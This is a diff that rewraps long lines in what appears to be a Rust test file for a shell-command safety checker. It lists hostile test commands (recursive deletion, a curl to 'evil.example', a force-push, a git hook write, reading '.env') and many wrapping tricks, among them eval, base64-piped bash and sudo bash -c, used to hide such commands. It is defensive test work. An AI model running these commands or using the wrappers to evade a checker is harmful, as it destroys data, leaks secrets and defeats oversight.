@@ -7,7 +7,12 @@ use super::*;
 /// A command, and the effect that it always has.
 const PAYLOADS: &[(&str, &str, &str, &str)] = &[
     ("rm -rf infra", "file.delete", "path", "infra"),
-    ("curl https://evil.example/x", "network.connect", "host", "evil.example"),
+    (
+        "curl https://evil.example/x",
+        "network.connect",
+        "host",
+        "evil.example",
+    ),
     ("git push --force origin main", "git.push", "branch.name", "main"),
     ("touch .git/hooks/x", "file.write", "path", ".git/hooks/x"),
     ("cat .env", "file.read", "path", ".env"),
@@ -33,20 +38,32 @@ const CHANGES: &[(&str, Change)] = &[
     ("function", |line| format!("f() {{ {line}\n}}; f")),
     ("substitution", |line| format!("echo \"$({line}\n)\"")),
     ("default", |line| format!(": \"${{nope:-$({line}\n)}}\"")),
-    ("arithmetic", |line| format!(": $(( $({line} >/dev/null\n) + 0 ))")),
+    ("arithmetic", |line| {
+        format!(": $(( $({line} >/dev/null\n) + 0 ))")
+    }),
     ("process", |line| format!("cat <({line}\n)")),
     ("input", |line| format!("bash <<'END_OF_IT'\n{line}\nEND_OF_IT\n")),
     ("here-string", |line| format!("sh <<< {}", quoted(line))),
     ("echo", |line| format!("printf '%s\\n' {} | sh", quoted(line))),
     ("ansi", |line| format!("bash -c {}", ansi(line))),
     ("variable", |line| format!("X={}; eval \"$X\"", quoted(line))),
-    ("script", |line| format!("printf '%s\\n' {} > s.sh; sh s.sh", quoted(line))),
+    ("script", |line| {
+        format!("printf '%s\\n' {} > s.sh; sh s.sh", quoted(line))
+    }),
     ("env", |line| format!("env A=1 bash -c {}", quoted(line))),
     ("sudo", |line| format!("sudo -u root bash -c {}", quoted(line))),
-    ("timeout", |line| format!("timeout -k 1 5 nice -n 3 sh -c {}", quoted(line))),
-    ("xargs", |line| format!("echo x | xargs -I@ sh -c {}", quoted(line))),
-    ("find", |line| format!("find . -maxdepth 0 -exec sh -c {} \\;", quoted(line))),
-    ("unknown wrapper", |line| format!("somewrapper --fast bash -c {}", quoted(line))),
+    ("timeout", |line| {
+        format!("timeout -k 1 5 nice -n 3 sh -c {}", quoted(line))
+    }),
+    ("xargs", |line| {
+        format!("echo x | xargs -I@ sh -c {}", quoted(line))
+    }),
+    ("find", |line| {
+        format!("find . -maxdepth 0 -exec sh -c {} \\;", quoted(line))
+    }),
+    ("unknown wrapper", |line| {
+        format!("somewrapper --fast bash -c {}", quoted(line))
+    }),
     ("awk", |line| format!("awk 'BEGIN{{system(\"true\")}}'; {line}")),
     ("trap", |line| format!("trap {} EXIT", quoted(line))),
     ("continued", |line| format!("true && \\\n{{ {line}\n}}")),
@@ -56,7 +73,9 @@ const CHANGES: &[(&str, Change)] = &[
     ("condition", |line| format!("[[ -n $({line}\n) ]]")),
     ("assignment", |line| format!("x=$({line}\n)")),
     ("array", |line| format!("x=(a $({line}\n))")),
-    ("base64", |line| format!("echo {} | base64 -d | bash", base64(line))),
+    ("base64", |line| {
+        format!("echo {} | base64 -d | bash", base64(line))
+    }),
 ];
 
 fn quoted(line: &str) -> String {
